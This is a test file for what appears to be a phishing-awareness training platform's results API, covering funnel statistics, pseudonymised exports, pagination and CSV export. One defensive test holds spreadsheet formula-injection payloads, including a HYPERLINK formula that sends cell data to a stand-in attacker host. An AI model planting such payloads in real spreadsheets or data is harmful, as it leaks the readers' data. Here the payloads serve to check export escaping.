import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { EVENT_TYPES } from '@shared/events';
import {
  importCampaign,
  importCsv,
  newTenant,
  recordEvent,
  type TestTenant,
} from '@server/test/admin-fixtures';
import { buildAdminApp } from '@server/app';
import { describeEachDatabase, testConfig, type Harness } from '@server/test/harness';

interface ResultsBody {
  funnel: Record<string, number | null> & { outside?: unknown[] };
  recipients: Record<string, string | number | null>[];
}

async function setUp(h: Harness, tenant: TestTenant) {
  const id = await importCampaign(h, tenant);
  await importCsv(
    h,
    tenant,
    id,
    'email,first_name\nann@example.com,Ann\nbob@example.com,Bob\ncy@example.com,Cy\ndee@example.com,Dee\n',
  );
  const links = (
    await h.admin.inject({ method: 'GET', url: `/api/admin/campaigns/${id}/links`, headers: tenant.headers })
  ).json<{ links: { email: string; rid: string }[] }>().links;
  const rid = (email: string) => links.find((l) => l.email === email)!.rid;
  // Ann: the whole journey (score 80); Bob: clicked and submitted; Cy: only a scanner visit; Dee: nothing.
  for (const type of EVENT_TYPES.slice(0, EVENT_TYPES.indexOf('questionnaire_completed'))) {
    await recordEvent(h, rid('ann@example.com'), type, { at: '2026-12-01T10:00:00.000Z', ip: '203.0.113.0' });
  }
  await recordEvent(h, rid('ann@example.com'), 'questionnaire_completed', {
    details: { score: 80 },
    at: '2026-12-01T10:05:00.000Z',
  });
  await recordEvent(h, rid('ann@example.com'), 'completed', { at: '2026-12-01T10:06:00.000Z' });
  await recordEvent(h, rid('bob@example.com'), 'visited');
  await recordEvent(h, rid('bob@example.com'), 'clicked', { at: '2026-12-02T09:00:00.000Z' });
  await recordEvent(h, rid('bob@example.com'), 'submitted');
  await recordEvent(h, rid('bob@example.com'), 'questionnaire_completed', { details: { score: 41 } });
  await recordEvent(h, rid('cy@example.com'), 'visited');
  return id;
}

describeEachDatabase('operator API: results', (get) => {
  it('gives the funnel with visited and clicked apart, the average score and each recipient with times', async () => {
    const tenant = await newTenant(get());
    const id = await setUp(get(), tenant);
    const res = await get().admin.inject({
      method: 'GET',
      url: `/api/admin/campaigns/${id}/results`,
      headers: tenant.headers,
    });
    expect(res.statusCode).toBe(200);
    const body = res.json<ResultsBody>();
    // No message has a recorded send: no "sent" stage. The campaign has no PDF and no red flags,
    // but Ann reached them (shown, as reached); Bob answered the questions without the lesson
    // (outside the funnel, as skipping an earlier step).
    expect(body.funnel).toEqual({
      stages: [
        'recipients',
        'clicked',
        'awareness_viewed',
        'pdf_viewed',
        'sei_viewed',
        'questionnaire_completed',
        'completed',
      ],
      recipients: 4,
      sent: null,
      visited: 3,
      clicked: 2,
      submitted: 2,
      awareness_viewed: 1,
      pdf_viewed: 1,
      sei_viewed: 1,
      questionnaire_completed: 1,
      completed: 1,
      outside: [
        { step: 'submitted', not_counted: 0, skipped_earlier: 0 },
        { step: 'awareness_viewed', not_counted: 0, skipped_earlier: 0 },
        { step: 'pdf_viewed', not_counted: 0, skipped_earlier: 0 },
        { step: 'sei_viewed', not_counted: 0, skipped_earlier: 0 },
        { step: 'questionnaire_completed', not_counted: 0, skipped_earlier: 1 },
        { step: 'completed', not_counted: 0, skipped_earlier: 0 },
      ],
      submit_attempted: 0,
      average_score: 60.5,
      // Clicks recorded without a source (before it was kept) came through the link.
      clicked_via: { link: 2, qr: 0 },
    });
    const byEmail = new Map(body.recipients.map((r) => [String(r.email), r]));
    expect(byEmail.get('ann@example.com')).toMatchObject({
      first_name: 'Ann',
      status: 'completed',
      clicked_at: '2026-12-01T10:00:00.000Z',
      completed_at: '2026-12-01T10:06:00.000Z',
      score: 80,
    });
    expect(byEmail.get('bob@example.com')).toMatchObject({
      status: 'submitted',
      questionnaire_completed_at: null,
      outside_funnel: ['questionnaire_completed'],
      completed_at: null,
      score: 41,
    });
    expect(byEmail.get('cy@example.com')).toMatchObject({ status: 'visited', clicked_at: null });
    expect(byEmail.get('dee@example.com')).toMatchObject({
      status: 'created',
      visited_at: null,
      score: null,
    });
    // Results never carry IP addresses.
    expect(res.body).not.toContain('203.0.113');
  });

  it('keys pseudonyms with PSEUDONYM_KEY alone: rotating the poll token secret keeps them', async () => {
    const h = get();
    const tenant = await newTenant(h);
    const id = await setUp(h, tenant);
    const pseudonymsWith = async (overrides: Record<string, string>) => {
      const admin = await buildAdminApp(
        { config: testConfig(overrides), database: h.database },
        { logger: { level: 'silent' } },
      );
      try {
        const res = await admin.inject({
          method: 'GET',
          url: `/api/admin/campaigns/${id}/results?pseudonymise=true`,
          headers: tenant.headers,
        });
        return res.json<ResultsBody>().recipients.map((r) => r.pseudonym);
      } finally {
        await admin.close();
      }
    };
    const key = 'k'.repeat(40);
    const before = await pseudonymsWith({ PSEUDONYM_KEY: key, POLL_TOKEN_SECRET: 'a'.repeat(40) });
    expect(await pseudonymsWith({ PSEUDONYM_KEY: key, POLL_TOKEN_SECRET: 'b'.repeat(40) })).toEqual(before);
    const otherKey = await pseudonymsWith({
      PSEUDONYM_KEY: 'm'.repeat(40),
      POLL_TOKEN_SECRET: 'a'.repeat(40),
    });
    expect(otherKey.some((p, i) => p === before[i])).toBe(false);
  });

  it('exports CSV, and a pseudonymised export has no email or name and stable pseudonyms', async () => {
    const { admin } = get();
    const tenant = await newTenant(get());
    const id = await setUp(get(), tenant);
    const csv = await admin.inject({
      method: 'GET',
      url: `/api/admin/campaigns/${id}/results.csv`,
      headers: tenant.headers,
    });
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parse<Record<string, string>>(csv.body, { columns: true });
    expect(rows).toHaveLength(4);
    expect(rows.find((r) => r.email === 'ann@example.com')).toMatchObject({
      status: 'completed',
      score: '80',
    });

    const pseudo = async () =>
      (
        await admin.inject({
          method: 'GET',
          url: `/api/admin/campaigns/${id}/results?pseudonymise=true`,
          headers: tenant.headers,
        })
      ).json<ResultsBody>();
    const first = await pseudo();
    const text = JSON.stringify(first);
    for (const secret of ['ann@example.com', 'Ann', 'Bob', 'dee@']) expect(text).not.toContain(secret);
    const pseudonyms = first.recipients.map((r) => r.pseudonym);
    expect(new Set(pseudonyms).size).toBe(4);
    for (const p of pseudonyms) expect(p).toMatch(/^p_[A-Za-z0-9_-]{16}$/);
    expect((await pseudo()).recipients.map((r) => r.pseudonym)).toEqual(pseudonyms);
    expect(first.funnel.completed).toBe(1);

    const pcsv = await admin.inject({
      method: 'GET',
      url: `/api/admin/campaigns/${id}/results.csv?pseudonymise=true`,
      headers: tenant.headers,
    });
    expect(pcsv.body.split('\n')[0]).toMatch(/^pseudonym,language_code,status,/);
    expect(pcsv.body).not.toContain('@example.com');
  });
});

describeEachDatabase('operator API: CSV exports a spreadsheet cannot turn against its reader', (get) => {
  it('writes a name that starts like a formula as text in results.csv and links.csv', async () => {
    const h = get();
    const tenant = await newTenant(h);
    const id = await importCampaign(h, tenant);
    const hostile = ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', '+cmd', '-2+3', '@SUM(A1)'];
    const quoted = hostile.map((name, i) => `p${i}@example.com,"${name.replace(/"/g, '""')}"`);
    await importCsv(h, tenant, id, ['email,first_name', ...quoted].join('\n') + '\n');
    for (const path of ['results.csv', 'links.csv']) {
      const res = await h.admin.inject({
        method: 'GET',
        url: `/api/admin/campaigns/${id}/${path}`,
        headers: tenant.headers,
      });
      expect(res.statusCode).toBe(200);
      const names = parse<Record<string, string>>(res.body, { columns: true }).map((r) => r.first_name);
      expect(names.sort()).toEqual(hostile.map((name) => `'${name}`).sort());
      for (const record of parse(res.body, { columns: false }) satisfies string[][])
        for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describeEachDatabase('operator API: results count data entered, and keep every attempt', (get) => {
  it('counts an empty submit under submit_attempted only, and each questionnaire retake', async () => {
    const h = get();
    const tenant = await newTenant(h);
    const id = await importCampaign(h, tenant);
    await importCsv(h, tenant, id, 'email\nann@example.com\nbob@example.com\n');
    const links = (
      await h.admin.inject({
        method: 'GET',
        url: `/api/admin/campaigns/${id}/links`,
        headers: tenant.headers,
      })
    ).json<{ links: { email: string; rid: string }[] }>().links;
    const rid = (email: string) => links.find((l) => l.email === email)!.rid;
    const post = (payload: unknown) =>
      h.app.inject({ method: 'POST', url: '/api/events', payload: payload as Record<string, unknown> });
    // Ann pressed Sign in with every field empty, then again with a user name; Bob only empty.
    await post({ rid: rid('ann@example.com'), type: 'submitted', details: { fields: [] } });
    await post({ rid: rid('ann@example.com'), type: 'submitted', details: { fields: ['username'] } });
    await post({ rid: rid('bob@example.com'), type: 'submitted', details: { fields: [] } });
    const results = async () =>
      (
        await h.admin.inject({
          method: 'GET',
          url: `/api/admin/campaigns/${id}/results`,
          headers: tenant.headers,
        })
      ).json<ResultsBody>();
    const body = await results();
    // Nobody's click was counted (no visit at all): the data entered is apart from the funnel.
    expect(body.funnel).toMatchObject({ clicked: 0, submitted: 0, submit_attempted: 2 });
    expect(body.funnel.outside).toContainEqual({ step: 'submitted', not_counted: 1, skipped_earlier: 0 });
    expect(body.recipients.every((r) => r.questionnaire_attempts === 0)).toBe(true);
  });
});

describeEachDatabase('operator API: results pages', (get) => {
  it('pages recipients in a stable order while the funnel still counts everyone', async () => {
    const tenant = await newTenant(get());
    const id = await setUp(get(), tenant);
    const page = async (query: string) =>
      (
        await get().admin.inject({
          method: 'GET',
          url: `/api/admin/campaigns/${id}/results?${query}`,
          headers: tenant.headers,
        })
      ).json<ResultsBody>();
    const all = await page('');
    const first = await page('limit=3');
    const second = await page('limit=3&offset=3');
    expect(first.funnel).toEqual(all.funnel);
    expect(first.recipients).toHaveLength(3);
    expect(second.recipients).toHaveLength(1);
    expect([...first.recipients, ...second.recipients]).toEqual(all.recipients);
    const bad = await get().admin.inject({
      method: 'GET',
      url: `/api/admin/campaigns/${id}/results?limit=0`,
      headers: tenant.headers,
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ error: { code: expect.any(String) } });
  });
});
